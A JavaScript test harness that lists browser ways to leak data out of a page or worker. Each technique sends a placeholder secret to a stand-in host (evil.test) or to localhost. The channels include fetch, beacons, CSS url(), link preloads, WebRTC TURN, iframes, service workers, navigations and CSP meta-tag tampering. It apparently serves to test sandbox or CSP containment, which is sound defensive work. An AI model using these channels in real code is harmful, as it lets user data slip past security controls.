/* ways.js - ways out of a document or a worker, as a classic script for either.
 *
 *     net        need no document; those of them that a worker has are tried there, too
 *     page       need a document, which survives them
 *     leaving    navigate: a fresh document each
 *
 * Each is given its own name r and asks for an address made of it: E(r) at a stranger's host named after the way,
 * O(r) at the own server. What a way cannot send but only keep for later, it says by "STORED".
 * SPDX-License-Identifier: MIT */
// @ts-nocheck: many ways are so new, or so old, that TypeScript's DOM does not know them
globalThis.WAYS = (() => {
  const E = (r, s = "https") => `${s}://${r}.evil.test/leak?d=SECRET`;
  const O = (r) => new URL(`leak-${r}?d=SECRET`, "http://localhost/").href;
  const add = (tag, props, parent) => {
    const e = document.createElement(tag);
    for (const [k, v] of Object.entries(props)) e.setAttribute(k, v);
    (parent ?? document.body).append(e);
    return e;
  };
  const link = (rel, href, more = {}) => add("link", { rel, href, ...more }, document.head);
  const soon = (ms) => new Promise((r) => setTimeout(r, ms));
  const css = (text) => {
    const s = new CSSStyleSheet();
    s.replaceSync(text);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, s];
  };
  const net = {
    "fetch-get": (r) => fetch(E(r)),
    "fetch-own": (r) => fetch(O(r)),
    "fetch-post-nocors": (r) => fetch(E(r), { method: "POST", mode: "no-cors", body: "SECRET" }),
    "fetch-keepalive": (r) => fetch(E(r), { method: "POST", mode: "no-cors", keepalive: true, body: "SECRET" }),
    "fetch-later": (r) => fetchLater(E(r), { activateAfter: 0, method: "POST", body: "SECRET" }),
    "xhr": (r) => {
      const x = new XMLHttpRequest();
      x.open("POST", E(r));
      x.send("SECRET");
    },
    "xhr-sync": (r) => {
      const x = new XMLHttpRequest();
      x.open("GET", E(r), false);
      x.send();
    },
    "websocket": (r) => {
      globalThis.__ws = new WebSocket(E(r, "wss"));
    },
    "websocketstream": (r) => new WebSocketStream(E(r, "wss")).opened,
    "webtransport": (r) => {
      const t = new WebTransport(E(r));
      t.ready.catch(() => {});
      t.closed.catch(() => {});
      return soon(300);
    },
    "eventsource": (r) => {
      globalThis.__es = new EventSource(E(r));
    },
    "cache-add": async (r) => (await caches.open("x")).add(E(r)),
    "import": (r) => import(E(r)),
    "broadcast": (r) => {
      const c = new BroadcastChannel("leak");
      c.postMessage(r);
    },
    "blob-worker-fetch": (r) => {
      const w = new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(E(r))}); try{importScripts(${JSON.stringify(E(r))})}catch(e){}`])));
      return soon(200);
    },
    "nested-blob-worker": (r) => {
      const inner = `fetch(${JSON.stringify(E(r))})`;
      const w = new Worker(URL.createObjectURL(new Blob([`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}])))`])));
      return soon(300);
    },
    "worker-url": (r) => {
      const w = new Worker(O(r));
      w.onerror = (e) => e.preventDefault();
    },
    "fontface": (r) => {
      const f = new FontFace("f" + r.replace(/-/g, ""), `url(${E(r)})`);
      return f.load();
    },
    "storage-localstorage": (r) => {
      localStorage.setItem("leak", r);
      if (localStorage.getItem("leak") === r) return "STORED";
    },
    "storage-idb": (r) => new Promise((ok, no) => {
      const q = indexedDB.open("leak", 1);
      q.onupgradeneeded = () => q.result.createObjectStore("s");
      q.onsuccess = () => {
        const t = q.result.transaction("s", "readwrite");
        t.objectStore("s").put(r, "k");
        t.oncomplete = () => ok("STORED");
      };
      q.onerror = () => no(q.error);
    }),
    "storage-cache": async (r) => {
      await (await caches.open("leak")).put("http://localhost/stash", new Response(r));
      return "STORED";
    },
    "storage-opfs": async (r) => {
      const d = await navigator.storage.getDirectory();
      const f = await d.getFileHandle("leak", { create: true });
      return f ? "STORED" : "";
    },
    "sharedworker-blob": (r) => {
      const w = new SharedWorker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(E(r))})`])));
      return soon(300);
    },
    "sharedworker-url": (r) => {
      new SharedWorker(O(r));
      return soon(200);
    },
    "image-decoder": () => "n/a",
    "report-api": (r) => {
      new ReportingObserver(() => {
      }).observe();
    }
  };
  const page = {
    "beacon": (r) => String(navigator.sendBeacon(E(r), "SECRET")),
    "image": (r) => {
      new Image().src = E(r);
    },
    "image-srcset": (r) => add("img", { srcset: `${E(r)} 2x` }),
    "picture": (r) => {
      const p = add("picture", {});
      add("source", { srcset: E(r) }, p);
      add("img", { src: "data:," }, p);
    },
    "image-lazy-input": (r) => add("input", { type: "image", src: E(r) }),
    "svg-image": (r) => {
      const s = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const i = document.createElementNS("http://www.w3.org/2000/svg", "image");
      i.setAttribute("href", E(r));
      s.append(i);
      document.body.append(s);
    },
    "svg-use": (r) => {
      const s = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const i = document.createElementNS("http://www.w3.org/2000/svg", "use");
      i.setAttribute("href", O(r) + "#a");
      s.append(i);
      document.body.append(s);
    },
    "svg-feimage": (r) => {
      document.body.insertAdjacentHTML("beforeend", `<svg width=9 height=9><filter id=fi${r}><feImage href="${E(r)}"/></filter><rect width=9 height=9 filter="url(#fi${r})"/></svg>`);
    },
    "svg-script": (r) => {
      const s = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const i = document.createElementNS("http://www.w3.org/2000/svg", "script");
      i.setAttribute("href", E(r));
      s.append(i);
      document.body.append(s);
    },
    "svg-a-ping": (r) => {
      document.body.insertAdjacentHTML("beforeend", `<svg><mpath href="${E(r)}"/><animate href="${E(r)}"/></svg>`);
    },
    "css-inline-bg": (r) => {
      const d = add("div", {});
      d.style.cssText = `width:9px;height:9px;background:url(${E(r)})`;
    },
    "css-sheet-bg": (r) => {
      const d = add("div", { id: "d" + r });
      css(`#d${r}{width:9px;height:9px;background-image:url(${E(r)})}`);
    },
    "css-import-set": (r) => {
      const d = add("div", { id: "d" + r });
      css(`#d${r}{width:9px;height:9px;background-image:image-set(url(${E(r)}) 1x)}`);
    },
    "css-cursor": (r) => {
      const d = add("div", {});
      d.style.cssText = `cursor:url(${E(r)}),auto;width:900px;height:900px`;
    },
    "css-list": (r) => {
      const d = add("li", {});
      d.style.listStyleImage = `url(${E(r)})`;
    },
    "css-content": (r) => {
      const d = add("div", { id: "c" + r });
      css(`#c${r}::before{content:url(${E(r)})}`);
    },
    "css-mask": (r) => {
      const d = add("div", {});
      d.style.cssText = `width:9px;height:9px;mask-image:url(${E(r)});-webkit-mask-image:url(${E(r)})`;
    },
    "css-filter": (r) => {
      const d = add("div", {});
      d.style.cssText = `width:9px;height:9px;filter:url(${O(r)}#f)`;
    },
    "css-clip": (r) => {
      const d = add("div", {});
      d.style.cssText = `width:9px;height:9px;clip-path:url(${O(r)}#f)`;
    },
    "css-border": (r) => {
      const d = add("div", {});
      d.style.cssText = `width:9px;height:9px;border:3px solid;border-image:url(${E(r)}) 3`;
    },
    "css-shape": (r) => {
      const d = add("div", {});
      d.style.cssText = `float:left;width:9px;height:9px;shape-outside:url(${E(r)})`;
    },
    "css-font-face": (r) => {
      css(`@font-face{font-family:q${r};src:url(${E(r)})}`);
      const d = add("p", {});
      d.style.fontFamily = "q" + r;
      d.textContent = "xyz";
    },
    "css-style-element": (r) => {
      const s = add("style", {}, document.head);
      s.textContent = `@import url(${E(r)}); body{background:url(${E(r)})}`;
    },
    "css-cssom-insert": (r) => {
      for (const s of document.styleSheets) try {
        s.insertRule(`body{background-image:url(${E(r)})}`, 0);
      } catch {
      }
    },
    "link-preload-fetch": (r) => link("preload", E(r), { as: "fetch" }),
    "link-preload-image": (r) => link("preload", E(r), { as: "image" }),
    "link-preload-font": (r) => link("preload", E(r), { as: "font", crossorigin: "" }),
    "link-preload-script": (r) => link("preload", E(r), { as: "script" }),
    "link-preload-style": (r) => link("preload", E(r), { as: "style" }),
    "link-preload-track": (r) => link("preload", E(r), { as: "track" }),
    "link-preload-video": (r) => link("preload", E(r), { as: "video" }),
    "link-preload-json": (r) => link("preload", E(r), { as: "json" }),
    "link-preload-doc": (r) => link("preload", E(r), { as: "document" }),
    "link-prefetch": (r) => link("prefetch", E(r)),
    "link-prefetch-own": (r) => link("prefetch", O(r)),
    "link-prefetch-doc": (r) => link("prefetch", E(r), { as: "document" }),
    "link-prerender": (r) => link("prerender", E(r)),
    "link-next": (r) => link("next", E(r)),
    "link-preconnect": (r) => link("preconnect", E(r)),
    "link-preconnect-anon": (r) => link("preconnect", E(r), { crossorigin: "" }),
    "link-dns-prefetch": (r) => link("dns-prefetch", E(r)),
    "link-dns-schemeless": (r) => link("dns-prefetch", `//${r}.evil.test`),
    "link-modulepreload": (r) => link("modulepreload", E(r)),
    "link-manifest": (r) => link("manifest", E(r)),
    "link-manifest-own": (r) => link("manifest", O(r)),
    "link-icon": (r) => link("icon", E(r)),
    "link-icon-own": (r) => link("icon", O(r)),
    "link-apple-icon": (r) => link("apple-touch-icon", E(r)),
    "link-mask-icon": (r) => link("mask-icon", E(r)),
    "link-stylesheet": (r) => link("stylesheet", E(r)),
    "link-search": (r) => link("search", E(r), { type: "application/opensearchdescription+xml", title: "x" }),
    "link-compression-dictionary": (r) => link("compression-dictionary", E(r)),
    "link-privacy-policy": (r) => link("payment-method-manifest", E(r)),
    "link-pingback": (r) => link("pingback", E(r)),
    "dns-anchor": (r) => {
      add("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }, document.head);
      add("a", { href: E(r) }).textContent = "x";
    },
    "speculation-inline": (r) => {
      const s = document.createElement("script");
      s.type = "speculationrules";
      s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [E(r)], requires: ["anonymous-client-ip-when-cross-origin"] }, { source: "list", urls: [E(r), O(r)], eagerness: "immediate" }], prerender: [{ source: "list", urls: [O(r)], eagerness: "immediate" }] });
      document.head.append(s);
    },
    "importmap": (r) => {
      const s = document.createElement("script");
      s.type = "importmap";
      s.textContent = JSON.stringify({ imports: { leak: E(r) } });
      document.head.append(s);
      return import("leak");
    },
    "script-src": (r) => {
      const s = document.createElement("script");
      s.src = E(r);
      document.head.append(s);
    },
    "script-json": (r) => {
      const s = document.createElement("script");
      s.type = "json";
      s.src = E(r);
      document.head.append(s);
    },
    "a-ping": (r) => {
      const a = add("a", { href: "#x", ping: E(r) });
      a.click();
    },
    "form-post-blank": (r) => {
      const f = add("form", { action: E(r), method: "post", target: "_blank" });
      add("input", { name: "d", value: "SECRET" }, f);
      f.submit();
    },
    "form-iframe": (r) => {
      const i = add("iframe", { name: "fr" + r });
      const f = add("form", { action: E(r), method: "post", target: "fr" + r });
      f.submit();
    },
    "iframe": (r) => add("iframe", { src: E(r) }),
    "iframe-own": (r) => add("iframe", { src: O(r) }),
    "iframe-sandbox": (r) => add("iframe", { src: E(r), sandbox: "" }),
    "iframe-credless": (r) => add("iframe", { src: E(r), credentialless: "" }),
    "iframe-fenced": (r) => {
      const f = document.createElement("fencedframe");
      f.config = new FencedFrameConfig(E(r));
      document.body.append(f);
    },
    "iframe-blank-fetch": (r) => {
      const i = add("iframe", {});
      return i.contentWindow.fetch(E(r));
    },
    "iframe-blank-img": (r) => {
      const i = add("iframe", {});
      const m = i.contentDocument.createElement("img");
      m.src = E(r);
      i.contentDocument.body.append(m);
    },
    "iframe-blank-write": (r) => {
      const i = add("iframe", {});
      i.contentDocument.open();
      i.contentDocument.write(`<img src="${E(r)}"><link rel=dns-prefetch href="//w${r}.evil.test">`);
      i.contentDocument.close();
    },
    "iframe-srcdoc": (r) => add("iframe", { srcdoc: `<img src="${E(r)}"><link rel=stylesheet href="${E(r)}"><meta http-equiv=refresh content="0;url=${E(r)}">` }),
    "iframe-blob": (r) => {
      const i = add("iframe", { src: URL.createObjectURL(new Blob([`<img src="${E(r)}"><meta http-equiv=refresh content="1;url=${E(r)}"><form id=f action="${E(r)}" method=post></form>`], { type: "text/html" })) });
      return soon(600).then(() => i.contentDocument?.getElementById("f")?.submit());
    },
    "iframe-blob-nav": (r) => {
      const i = add("iframe", { src: URL.createObjectURL(new Blob(["<p>x"], { type: "text/html" })) });
      return soon(400).then(() => {
        i.contentWindow.location = E(r);
      });
    },
    "iframe-data": (r) => add("iframe", { src: `data:text/html,<img src="${E(r)}">` }),
    "iframe-blob-svg": (r) => add("iframe", { src: URL.createObjectURL(new Blob([`<svg xmlns="http://www.w3.org/2000/svg"><image href="${E(r)}"/></svg>`], { type: "image/svg+xml" })) }),
    "iframe-xslt": (r) => add("iframe", { src: URL.createObjectURL(new Blob([`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${E(r)}"?><a/>`], { type: "text/xml" })) }),
    "iframe-pdf": (r) => add("iframe", { src: URL.createObjectURL(new Blob([`%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(${E(r)})>>>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj
trailer<</Root 1 0 R>>`], { type: "application/pdf" })) }),
    "object": (r) => add("object", { data: E(r) }),
    "embed": (r) => add("embed", { src: E(r) }),
    "embed-svg": (r) => add("embed", { src: E(r), type: "image/svg+xml" }),
    "object-blob": (r) => add("object", { data: URL.createObjectURL(new Blob([`<img src="${E(r)}">`], { type: "text/html" })), type: "text/html" }),
    "video": (r) => add("video", { src: E(r), preload: "auto" }),
    "video-poster": (r) => add("video", { poster: E(r) }),
    "audio": (r) => {
      new Audio(E(r)).load();
    },
    "track": (r) => {
      const v = add("video", {});
      const t = add("track", { src: E(r), kind: "captions", default: "" }, v);
      t.track.mode = "showing";
    },
    "blob-image-svg-ext": (r) => {
      new Image().src = URL.createObjectURL(new Blob([`<svg xmlns="http://www.w3.org/2000/svg"><image href="${E(r)}"/><style>@import url(${E(r)});</style></svg>`], { type: "image/svg+xml" }));
    },
    "paint-worklet": (r) => CSS.paintWorklet.addModule(E(r)),
    "audio-worklet": (r) => new AudioContext().audioWorklet.addModule(E(r)),
    "paint-worklet-blob": (r) => CSS.paintWorklet.addModule(URL.createObjectURL(new Blob([`import ${JSON.stringify(E(r))}`], { type: "text/javascript" }))),
    "audio-worklet-blob": (r) => new AudioContext().audioWorklet.addModule(URL.createObjectURL(new Blob([`import ${JSON.stringify(E(r))}`], { type: "text/javascript" }))),
    "shared-storage-worklet": (r) => sharedStorage.worklet.addModule(E(r)),
    "shared-storage-set": (r) => sharedStorage.set("leak", r).then(() => "STORED"),
    "webrtc-stun": async (r) => {
      const p = new RTCPeerConnection({ iceServers: [{ urls: `stun:${r}.evil.test:3478` }] });
      p.createDataChannel("x");
      await p.setLocalDescription(await p.createOffer());
      await soon(1500);
      p.close();
    },
    "webrtc-turn": async (r) => {
      const p = new RTCPeerConnection({ iceServers: [{ urls: `turn:${r}.evil.test:3478?transport=udp`, username: "SECRET-" + r, credential: "x" }] });
      p.createDataChannel("x");
      await p.setLocalDescription(await p.createOffer());
      await soon(1500);
      p.close();
    },
    "webrtc-turn-tcp": async (r) => {
      const p = new RTCPeerConnection({ iceServers: [{ urls: `turns:${r}.evil.test:443?transport=tcp`, username: "SECRET-" + r, credential: "x" }] });
      p.createDataChannel("x");
      await p.setLocalDescription(await p.createOffer());
      await soon(1500);
      p.close();
    },
    "payment-method": async (r) => {
      const q = new PaymentRequest([{ supportedMethods: E(r) }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } });
      return String(await q.canMakePayment());
    },
    "payment-show": async (r) => {
      const q = new PaymentRequest([{ supportedMethods: E(r) }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } });
      return q.show();
    },
    "fedcm": (r) => navigator.credentials.get({ identity: { providers: [{ configURL: E(r), clientId: "SECRET" }] } }),
    "identity-login": (r) => navigator.login?.setStatus("logged-in"),
    "webauthn-ror": (r) => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: `${r}.evil.test`, timeout: 3e3 } }),
    "webauthn-ror-create": (r) => navigator.credentials.create({ publicKey: { challenge: new Uint8Array(16), rp: { id: `${r}.evil.test`, name: "x" }, user: { id: new Uint8Array(4), name: "x", displayName: "x" }, pubKeyCredParams: [{ type: "public-key", alg: -7 }], timeout: 3e3 } }),
    "password-icon": (r) => navigator.credentials.store(new PasswordCredential({ id: "a", password: "b", iconURL: E(r) })),
    "digital-credential": (r) => navigator.credentials.get({ digital: { requests: [{ protocol: "openid4vp", data: { request: E(r) } }] } }),
    "storage-access": (r) => document.requestStorageAccess(),
    "storage-access-for": (r) => document.requestStorageAccessFor(new URL(E(r)).origin),
    "interest-group": (r) => navigator.joinAdInterestGroup({ owner: new URL(E(r)).origin, name: "x", biddingLogicURL: E(r) }, 1e3),
    "attribution-src": (r) => {
      const a = add("img", { attributionsrc: E(r) });
    },
    "attribution-a": (r) => {
      const a = add("a", { href: "#y", attributionsrc: E(r) });
      a.click();
    },
    "browsing-topics": (r) => document.browsingTopics(),
    "media-session": (r) => {
      navigator.mediaSession.metadata = new MediaMetadata({ title: "x", artwork: [{ src: E(r), sizes: "96x96", type: "image/png" }] });
    },
    "notification-icon": (r) => {
      const n = new Notification("x", { icon: E(r), image: E(r), badge: E(r) });
      return n.title;
    },
    "sw-notification-icon": async (r) => {
      const g = await navigator.serviceWorker.getRegistration();
      await g.showNotification("x", { icon: E(r), image: E(r), badge: E(r) });
    },
    "background-fetch": async (r) => {
      const g = await navigator.serviceWorker.getRegistration();
      await g.backgroundFetch.fetch("x" + r, [E(r)], { title: "x", icons: [{ src: E(r) }] });
    },
    "background-fetch-own": async (r) => {
      const g = await navigator.serviceWorker.getRegistration();
      await g.backgroundFetch.fetch("y" + r, [new Request(O(r), { method: "POST", body: "SECRET" })], { title: "x" });
    },
    "background-sync": async (r) => {
      const g = await navigator.serviceWorker.getRegistration();
      await g.sync.register("SECRET-" + r);
      return "REGISTERED";
    },
    "periodic-sync": async (r) => {
      const g = await navigator.serviceWorker.getRegistration();
      await g.periodicSync.register("SECRET-" + r, { minInterval: 1 });
    },
    "push-subscribe": async (r) => {
      const g = await navigator.serviceWorker.getRegistration();
      const k = await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, true, ["sign"]);
      const raw = await crypto.subtle.exportKey("raw", k.publicKey);
      await g.pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: raw });
    },
    "content-index": async (r) => {
      const g = await navigator.serviceWorker.getRegistration();
      await g.index.add({ id: "x", url: O(r), title: "x", description: "x", icons: [{ src: E(r) }] });
    },
    "cookie-store-subs": async (r) => {
      const g = await navigator.serviceWorker.getRegistration();
      await g.cookies.subscribe([{ name: "a" }]);
    },
    "sw-register-query": (r) => navigator.serviceWorker.register(`service-worker.js?d=SECRET-${r}`),
    "sw-register-same": (r) => navigator.serviceWorker.register("service-worker.js"),
    "sw-register-other": (r) => navigator.serviceWorker.register(`leak-${r}.js`),
    "sw-register-blob": (r) => navigator.serviceWorker.register(URL.createObjectURL(new Blob([""], { type: "text/javascript" }))),
    "sw-postmessage": async (r) => {
      const g = await navigator.serviceWorker.getRegistration();
      for (const w of [g.active, g.waiting, navigator.serviceWorker.controller]) for (const m of [E(r), { url: E(r) }, { type: "fetch", url: E(r) }, "take over", { data: "take over", url: E(r) }]) w?.postMessage(m);
    },
    "sw-update-cookie": async (r) => {
      document.cookie = `leak=SECRET-${r}; path=/`;
      const g = await navigator.serviceWorker.getRegistration();
      await g.update();
      return "UPDATED";
    },
    "sw-navpreload-header": async (r) => {
      const g = await navigator.serviceWorker.getRegistration();
      await g.navigationPreload.enable();
      await g.navigationPreload.setHeaderValue("SECRET-" + r);
      return "STORED";
    },
    "cookie": (r) => {
      document.cookie = "leak2=SECRET; path=/";
      if (/leak2/.test(document.cookie)) return "STORED";
    },
    "domparser": (r) => new DOMParser().parseFromString(`<img src="${E(r)}">`, "text/html").title,
    "template-adopt": (r) => {
      document.body.insertAdjacentHTML("beforeend", `<div style="background:url(${E(r)})">x</div><table background="${E(r)}"><tr><td>x</table><body background="${E(r)}">`);
    },
    "xslt-processor": (r) => {
      const x = new XSLTProcessor();
      const s = new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document('${O(r)}')"/></xsl:template></xsl:stylesheet>`, "text/xml");
      x.importStylesheet(s);
      x.transformToFragment(new DOMParser().parseFromString("<a/>", "text/xml"), document);
    },
    "xslt-import": (r) => {
      const x = new XSLTProcessor();
      const s = new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${O(r)}"/></xsl:stylesheet>`, "text/xml");
      x.importStylesheet(s);
      x.transformToFragment(new DOMParser().parseFromString("<a/>", "text/xml"), document);
    },
    "presentation": (r) => new PresentationRequest(E(r)).getAvailability(),
    "speech-synth": (r) => {
      speechSynthesis.speak(new SpeechSynthesisUtterance("SECRET"));
    },
    "protocol-handler": (r) => navigator.registerProtocolHandler("web+leak", O(r) + "%s"),
    "related-apps": (r) => navigator.getInstalledRelatedApps(),
    "install-element": (r) => add("install", { installurl: E(r) }),
    "geolocation-watch": (r) => {
      navigator.geolocation.getCurrentPosition(() => {
      }, () => {
      });
    },
    "download-blob": (r) => "n/a: a file on disk",
    "element-img-loading": (r) => {
      document.body.insertAdjacentHTML("beforeend", `<img src="${E(r)}"><audio src="${E(r)}"></audio><input type=image src="${E(r)}"><object data="${E(r)}"></object><bgsound src="${E(r)}">`);
    },
    "meta-csp-report": (r) => {
      add("meta", { "http-equiv": "Content-Security-Policy", content: `img-src 'none'; report-uri ${E(r)}; report-to x` }, document.head);
      add("meta", { "http-equiv": "Reporting-Endpoints", content: `x="${E(r)}"` }, document.head);
      new Image().src = E("zz");
    },
    "meta-removed-fetch": (r) => {
      const kept = [...document.querySelectorAll("meta[http-equiv]")];
      kept.forEach((m) => m.remove());
      return fetch(E(r)).finally(() => document.head.append(...kept));
    },
    "meta-edited-fetch": (r) => {
      for (const m of document.querySelectorAll("meta[http-equiv]")) m.content = "default-src *";
      return fetch(E(r));
    },
    "meta-added-loose": (r) => {
      add("meta", { "http-equiv": "Content-Security-Policy", content: "default-src * 'unsafe-inline'; connect-src *" }, document.head);
      return fetch(E(r));
    },
    "new-document-fetch": (r) => {
      const d = document.implementation.createHTMLDocument("x");
      d.body.innerHTML = `<img src="${E(r)}">`;
      const i = d.createElement("iframe");
      i.src = E(r);
      d.body.append(i);
    },
    "pip-window": async (r) => {
      const w = await documentPictureInPicture.requestWindow();
      return w.fetch(E(r));
    }
  };
  const leaving = {
    "nav-location": (r) => {
      location.href = E(r);
    },
    "nav-location-204": (r) => {
      location.href = E(r).replace("leak", "204");
    },
    "nav-location-204-loop": async (r) => {
      for (let i = 0; i < 5; i++) {
        location.href = `https://${r}.evil.test/204?i=${i}&d=SECRET`;
        await soon(300);
      }
      return "page still here: " + !!document.querySelector("evax-xray");
    },
    "nav-attachment": async (r) => {
      location.href = E(r).replace("leak", "attach");
      await soon(500);
      return "page still here: " + !!document.querySelector("evax-xray");
    },
    "nav-own-204": (r) => {
      location.href = O(r).replace("leak", "204leak");
    },
    "nav-a-download": async (r) => {
      const a = add("a", { href: E(r), download: "x.txt" });
      a.click();
      await soon(500);
      return "page still here: " + !!document.querySelector("evax-xray");
    },
    "nav-a-download-own": async (r) => {
      const a = add("a", { href: O(r), download: "x.txt" });
      a.click();
      await soon(500);
      return "page still here: " + !!document.querySelector("evax-xray");
    },
    "nav-a-click": (r) => {
      add("a", { href: E(r) }).click();
    },
    "nav-a-blank": (r) => {
      add("a", { href: E(r), target: "_blank" }).click();
    },
    "nav-window-open": (r) => String(window.open(E(r))),
    "nav-window-open-own-fetch": async (r) => {
      const w = window.open("http://localhost/");
      if (!w) return "popup blocked";
      await soon(1500);
      return w.fetch(E(r)).then(() => "fetched");
    },
    "nav-window-open-blank-fetch": async (r) => {
      const w = window.open("about:blank");
      if (!w) return "popup blocked";
      return w.fetch(E(r));
    },
    "nav-meta-refresh": (r) => {
      add("meta", { "http-equiv": "refresh", content: `0;url=${E(r)}` }, document.head);
    },
    "nav-navigation-api": (r) => {
      navigation.navigate(E(r));
    },
    "nav-form": (r) => {
      const f = add("form", { action: E(r) });
      f.submit();
    },
    "nav-javascript-url": (r) => {
      location.href = `javascript:fetch("${E(r)}")`;
    },
    "nav-beacon-pagehide": (r) => {
      addEventListener("pagehide", () => {
        navigator.sendBeacon(E(r), "x");
        fetch(E(r), { keepalive: true, mode: "no-cors" }).catch(() => {});
      });
      location.href = "http://localhost/other";
    },
    "nav-document-open": (r) => {
      document.open();
      document.write(`<img src="${E(r)}"><link rel=stylesheet href="${E(r)}">`);
      document.close();
      fetch(E(r)).catch(() => {});
    },
    "nav-document-replace": (r) => {
      document.documentElement.replaceWith(document.createElement("html"));
      document.documentElement.append(document.createElement("body"));
      return fetch(E(r));
    },
    "nav-history-reload": async (r) => {
      history.replaceState(null, "", "?d=SECRET-" + r);
      location.reload();
    },
    "nav-referrer": async (r) => {
      history.replaceState(null, "", "/?d=SECRET-" + r);
      add("meta", { name: "referrer", content: "unsafe-url" }, document.head);
      location.href = `https://${r}.evil.test/x`;
    },
    "nav-mailto": (r) => {
      location.href = "mailto:x@evil.test?body=SECRET";
    },
    "nav-blob-doc": (r) => {
      location.href = URL.createObjectURL(new Blob([`<img src="${E(r)}">`], { type: "text/html" }));
    },
    "nav-window-name": (r) => {
      window.name = "SECRET";
      location.href = `https://${r}.evil.test/reads-window-name`;
    }
  };
  return { net, page, leaving };
})();
globalThis.tryWay = async (group, r) => {
  try {
    const limit = new Promise((ok) => setTimeout(ok, 2500, "(still pending)"));
    const v = await Promise.race([Promise.resolve(WAYS[group][r](r)), limit]);
    return v === void 0 ? "no error" : typeof v === "string" ? v : Object.prototype.toString.call(v);
  } catch (e) {
    return `${e?.name}: ${String(e?.message).slice(0, 90)}`;
  }
};
